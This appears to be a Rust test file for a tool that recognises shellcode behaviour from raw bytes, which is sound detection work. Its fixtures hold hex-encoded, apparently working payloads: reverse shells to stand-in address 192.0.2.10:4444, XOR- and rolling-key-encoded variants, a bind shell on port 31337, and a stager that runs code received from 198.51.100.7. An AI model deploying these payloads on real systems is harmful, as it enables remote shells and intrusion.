//! Code that stagers are made of, told from its bytes: written for these tests, assembled by GNU as.

use model::{Behavior, Budget, Protocol, Stream, Value};
use proptest::prelude::*;

use super::*;

fn bytes(hex: &str) -> Vec<u8> {
    let digits: Vec<u32> = hex.chars().filter_map(|digit| digit.to_digit(16)).collect();
    digits
        .chunks(2)
        .map(|pair| u8::try_from(pair[0] * 16 + pair[1]).unwrap())
        .collect()
}

/// An ELF file of one segment that may be written and run: what a stager is.
pub fn tiny(code: &[u8], wide: bool) -> Vec<u8> {
    let (header, segment) = if wide { (64_u16, 56_u16) } else { (52, 32) };
    let base = 0x40_0000_u64;
    let start = u64::from(header + segment);
    let mut file = b"\x7fELF".to_vec();
    file.extend_from_slice(&[if wide { 2 } else { 1 }, 1, 1]);
    file.resize(16, 0);
    let put = |file: &mut Vec<u8>, value: u64, length: usize| {
        file.extend_from_slice(&value.to_le_bytes()[..length]);
    };
    let word = if wide { 8 } else { 4 };
    put(&mut file, 2, 2);
    put(&mut file, if wide { 62 } else { 3 }, 2);
    put(&mut file, 1, 4);
    for value in [base + start, u64::from(header), 0] {
        put(&mut file, value, word);
    }
    put(&mut file, 0, 4);
    for value in [header, segment, 1, 0, 0, 0] {
        put(&mut file, u64::from(value), 2);
    }
    let length = start + code.len() as u64;
    put(&mut file, 1, 4);
    if wide {
        put(&mut file, 7, 4);
    }
    for value in [0, base, base, length, length + 0x1000] {
        put(&mut file, value, word);
    }
    if !wide {
        put(&mut file, 7, 4);
    }
    put(&mut file, 0x1000, word);
    file.extend_from_slice(code);
    file
}

fn acts_of(code: &[u8], wide: bool) -> Vec<Behavior> {
    let file = tiny(code, wide);
    let elf = Elf::parse(&file).unwrap();
    let budget = Budget::default();
    let mut world = World::new(&budget);
    follow(&mut world, &elf, &[elf.entry]);
    world
        .finish()
        .acts
        .into_iter()
        .map(|act| act.behavior)
        .collect()
}

fn connects(host: &str, port: &str) -> Behavior {
    Behavior::Connect {
        connection: 1,
        protocol: Protocol::Tcp,
        host: Value::literal(host),
        port: Value::literal(port),
    }
}

/// Whether a shell was started on connection 1.
fn gives_shell(acts: &[Behavior]) -> bool {
    acts.iter().any(|act| {
        matches!(act, Behavior::Execute { program, input: Stream::Connection(1), .. }
            if program.base_name() == "sh")
    })
}

const REVERSE_WIDE: &str = "6a2958996a025f6a015e0f05489748b90200115cc000020a514889e66a105a6a2a580f056a035e48ffce6a21580f0575f66a3b589948bb2f62696e2f736800534889e752574889e60f05";
const REVERSE_NARROW: &str = "31dbf7e35343536a0289e1b066cd809359b03fcd804979f968c000020a680200115c89e1b066505153b30389e1cd8052686e2f7368682f2f626989e3525389e1b00bcd80";

#[test]
fn a_shell_that_calls_home_is_told_with_its_address() {
    for (code, wide) in [(REVERSE_WIDE, true), (REVERSE_NARROW, false)] {
        let acts = acts_of(&bytes(code), wide);
        assert_eq!(
            acts.first(),
            Some(&connects("192.0.2.10", "4444")),
            "{wide}"
        );
        assert!(gives_shell(&acts), "{acts:?}");
    }
}

#[test]
fn code_that_decodes_itself_is_decoded() {
    // One byte for all of it.
    let xor = "eb115e6a4a594889f380365a48ffc6e2f8ffe3e8eaffffff307302c3305805305b04555f12cd12e3585a4b069a5a58500b12d3bc304a00307002555f30590412a594307b02555f2fac306102c312e1753833347529325a0912d3bd080d12d3bc555f";
    // A key that each word changes; it finds its own place by the floating-point unit.
    let rolling = "d9eed97424f45ebbefbe3713b9110000008db620000000311e031e83c604e2f7de65c0f073d97c9d715463d113abe4818283da68b4ad5d8adced9e6e16869c6e370a288f87d47a01b4ab7828db01fe7873f4d00feb6000df8919d7fc1f896ee32f26bc64";
    for (code, wide) in [(xor, true), (rolling, false)] {
        let acts = acts_of(&bytes(code), wide);
        assert!(acts.contains(&connects("192.0.2.10", "4444")), "{acts:?}");
        assert!(gives_shell(&acts), "{acts:?}");
    }
}

#[test]
fn a_shell_that_waits_is_told_with_its_port() {
    let code = "6a2958996a025f6a015e0f05489752c7042402007a694889e66a105a6a31580f056a32580f054831f66a2b58990f0548976a035e48ffce6a21580f0575f64831f65648bf2f62696e2f2f7368574889e76a3b58990f05";
    let acts = acts_of(&bytes(code), true);
    let listens = Behavior::Listen {
        connection: 1,
        protocol: Protocol::Tcp,
        host: Value::default(),
        port: Value::literal("31337"),
    };
    assert_eq!(acts.first(), Some(&listens));
    assert!(gives_shell(&acts), "{acts:?}");
}

#[test]
fn a_stager_runs_what_it_receives() {
    let code = "4831ff6a095899b6104889d64d31c96a22415ab2070f0556506a2958996a025f6a015e0f054885c07829489748b90200115cc6336407514889e66a105a6a2a580f05595e5a4885c078090f054885c07802ffe66a3c586a015f0f05";
    let acts = acts_of(&bytes(code), true);
    assert_eq!(acts.first(), Some(&connects("198.51.100.7", "4444")));
    let runs = acts.iter().any(|act| {
        matches!(act, Behavior::Evaluate { language: Language::Machine, code }
            if code.received_over() == Some(1))
    });
    assert!(runs, "{acts:?}");
}

#[test]
fn what_does_nothing_has_no_acts() {
    // exit(0); an endless loop; an endless loop of calls; what is no code.
    for code in ["6a3c5831ff0f05", "ebfe", "e8fbffffff", "0e0e0e0e"] {
        assert!(acts_of(&bytes(code), true).is_empty(), "{code}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn any_code_ends_without_panic(code in proptest::collection::vec(any::<u8>(), 1..200), wide: bool) {
        acts_of(&code, wide);
    }

    #[test]
    fn damaged_code_ends_without_panic(at in 0_usize..60, byte: u8, wide: bool) {
        let mut code = bytes(if wide { REVERSE_WIDE } else { REVERSE_NARROW });
        code[at] = byte;
        acts_of(&code, wide);
    }
}
